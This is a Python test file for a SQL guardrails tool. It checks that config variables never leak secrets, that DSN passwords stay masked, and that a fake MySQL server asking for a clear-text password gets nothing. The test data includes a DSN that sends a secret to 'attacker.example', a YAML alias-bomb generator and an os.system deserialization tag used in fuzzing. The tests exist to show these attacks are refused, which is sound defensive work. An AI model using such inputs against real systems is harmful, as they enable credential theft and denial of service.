"""Issue 12, the repository's own config: ``${VAR}`` never carries a secret into output or to a
server the pull request picks, and the DSN's password never shows, however it is written."""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Callable
from pathlib import Path

import pytest

from guardrails.mysql.dsn import DsnError, parse_dsn
from guardrails.mysql.runner import DatabaseError, ExplainRunner
from tests.attack_tally import tally
from tests.helpers import Repo, guardrails

TOKEN = "ghs_workflowTokenNeverPrinted42"


def _run(repo: Repo, config: str, **env: str) -> tuple[int, str]:
    repo.write(".guardrails.yml", config)
    repo.write("q.sql", "SELECT 1;\n")
    repo.commit("config")
    result = guardrails(repo.root, "run", env={"GITHUB_TOKEN": TOKEN, "GUARDRAILS_PW": TOKEN, **env})
    return result.code, result.stdout + result.stderr


@pytest.mark.parametrize(
    ("config", "expected"),
    [
        (
            "version: 1\npull_request:\n  checklist: ['${GITHUB_TOKEN}']\n",
            ".guardrails.yml:3: pull_request.checklist.0: ${VAR} is expanded only in database.dsn",
        ),
        (
            "version: 1\ndatabase:\n  dsn: mysql://x:${GITHUB_TOKEN}@127.0.0.1:3306/db\n",
            ".guardrails.yml:3: database.dsn: ${GITHUB_TOKEN} is not expanded: only GUARDRAILS_* variables",
        ),
        (
            "version: 1\ndatabase:\n  dsn: mysql://x:${GUARDRAILS_PW}@attacker.example:3306/db\n",
            "database.dsn: sends ${VAR} to host 'attacker.example' named in the config",
        ),
        ("version: 1\nextends: ${GUARDRAILS_PW}\n", 'extends: "${GUARDRAILS_PW}" is not one of'),
    ],
)
def test_config_variables_never_reach_output_or_a_chosen_server(
    repo: Repo, config: str, expected: str, record_property: Callable[[str, object], None]
) -> None:
    code, output = _run(repo, config)
    tally(record_property, tried=1, refused=code == 2 and TOKEN not in output)
    assert code == 2
    assert expected in output, output
    assert TOKEN not in output


def test_the_workflow_may_allow_a_variable_and_a_host(
    repo: Repo, record_property: Callable[[str, object], None]
) -> None:
    config = "version: 1\ndatabase:\n  dsn: mysql://x:${DB_PASSWORD}@db.internal:1/app\n"
    code, output = _run(repo, config, DB_PASSWORD=TOKEN, GUARDRAILS_ENV_ALLOW="DB_PASSWORD")
    assert code == 2 and "named in the config" in output
    tally(record_property, tried=1, refused=1)
    code, output = _run(
        repo, config, DB_PASSWORD=TOKEN, GUARDRAILS_ENV_ALLOW="DB_PASSWORD", GUARDRAILS_DSN_HOSTS="db.internal"
    )
    assert code == 0, output
    assert TOKEN not in output
    tally(record_property, tried=1, explained=1)  # allowed by the workflow, not by the config


@pytest.mark.parametrize("password", ["s%2fecret%3a9", "s%2Fecret%3A9", "s/ecret:9"])
def test_a_wrong_scheme_error_masks_the_password_however_it_is_escaped(
    password: str, record_property: Callable[[str, object], None]
) -> None:
    with pytest.raises(DsnError) as error:
        parse_dsn(f"postgres://app:{password}@h:3306/db")
    assert "ecret" not in str(error.value) and "postgres://app:***@h:3306/db" in str(error.value)
    tally(record_property, tried=1, refused=1)


def _fake_server(received: list[bytes]) -> int:
    """A server that asks for mysql_clear_password after the handshake and records what it gets."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)

    def packet(seq: int, payload: bytes) -> bytes:
        return struct.pack("<I", len(payload))[:3] + bytes([seq]) + payload

    def serve() -> None:
        conn, _ = listener.accept()
        conn.settimeout(5)
        caps = 0x1 | 0x8 | 0x200 | 0x8000 | 0x80000
        hello = (
            b"\x0a5.7.99-fake\x00"
            + struct.pack("<I", 7)
            + b"abcdefgh\x00"
            + struct.pack("<H", caps & 0xFFFF)
            + b"\x21"
            + struct.pack("<H", 2)
            + struct.pack("<H", caps >> 16)
            + b"\x15"
            + b"\x00" * 10
            + b"ijklmnopqrst\x00"
            + b"mysql_native_password\x00"
        )
        try:
            conn.sendall(packet(0, hello))
            received.append(conn.recv(65536))
            conn.sendall(packet(2, b"\xfemysql_clear_password\x00"))
            received.append(conn.recv(65536))
        except OSError:
            pass
        finally:
            conn.close()
            listener.close()

    threading.Thread(target=serve, daemon=True).start()
    return int(listener.getsockname()[1])


def test_a_server_asking_for_the_password_in_clear_text_does_not_get_it(
    record_property: Callable[[str, object], None],
) -> None:
    received: list[bytes] = []
    port = _fake_server(received)
    with pytest.raises(DatabaseError) as error, ExplainRunner(f"mysql://app:{TOKEN}@127.0.0.1:{port}/db") as runner:
        _ = runner.server
    assert "clear text" in str(error.value)
    assert received, "the fake server saw no client"
    assert not any(TOKEN.encode() in data for data in received)
    tally(record_property, tried=1, refused=1)


def _bomb(levels: int) -> str:
    lines = [
        "version: 1",
        "pull_request:",
        '  checklist: &a0 ["x", "x", "x", "x", "x", "x", "x", "x", "x"]',
        "x-anchors:",
    ]
    for i in range(1, levels + 1):
        lines.append(f"  a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def test_a_yaml_alias_bomb_in_the_config_is_a_clear_error_at_once(
    repo: Repo, record_property: Callable[[str, object], None]
) -> None:
    import time

    started = time.perf_counter()
    code, output = _run(repo, _bomb(9))
    assert code == 2
    assert ".guardrails.yml:5:" in output and "aliases (*name) are not allowed" in output, output
    assert time.perf_counter() - started < 10
    tally(record_property, tried=1, refused=1)


def test_a_duplicate_key_in_the_config_names_both_lines(
    repo: Repo, record_property: Callable[[str, object], None]
) -> None:
    code, output = _run(
        repo, "version: 1\nrules:\n  insert-ignore: error\nextends: all\nrules:\n  insert-ignore: off\n"
    )
    assert code == 2
    assert ".guardrails.yml:5: duplicate key 'rules': first at line 2, again at line 5" in output
    tally(record_property, tried=1, refused=1)


def test_fuzzed_configs_each_name_file_and_line(tmp_path: Path, record_property: Callable[[str, object], None]) -> None:
    import random

    from guardrails.config import ConfigError, load_config
    from guardrails.registry import load_registry

    registry = load_registry()
    seed = (
        "version: 1\nextends: recommended\npaths:\n  exclude: ['vendor/**']\nsql:\n  sources: ['**/*.sql']\n"
        "  schema: ['db/*.sql']\ndatabase:\n  dsn: ${GUARDRAILS_DSN}\nopenapi:\n  specs: ['api.yaml']\n"
        "pull_request:\n  checklist: ['tested']\nrules:\n  insert-ignore: error\n"
        "  partition-pruning: {severity: error, mode: both}\noverrides:\n  - paths: ['legacy/**']\n"
        "    rules: {insert-ignore: warning}\n"
    )
    pieces = [
        ":",
        "- ",
        "{",
        "}",
        "[",
        "]",
        "&a",
        "*a",
        "!!python/object:os.system",
        "\t",
        "'",
        '"',
        "? ",
        "~",
        "0x",
        "${X}",
        "<<: *a",
        "\x00",
        "\ufeff",
        "@",
        "%YAML 1.1\n---\n",
        "---\n",
        "...\n",
        "|",
        ">",
        "#",
    ]
    rng = random.Random(12)
    path = tmp_path / ".guardrails.yml"
    refused = named = 0
    for _ in range(200):
        text = list(seed)
        for _ in range(rng.randint(1, 4)):
            text.insert(rng.randrange(len(text)), rng.choice(pieces))
        path.write_text("".join(text), encoding="utf-8")
        try:
            load_config(
                path, ".guardrails.yml", registry.rules, registry.inputs, env={"GUARDRAILS_DSN": "mysql://h/db"}
            )
        except ConfigError as exc:
            refused += 1
            named += exc.line > 0
            assert exc.line > 0, (exc, "".join(text))
    # a config that loads is accepted as it is (the fuzz left it valid)
    tally(record_property, tried=200, refused=named, explained=200 - refused)
    assert refused > 100
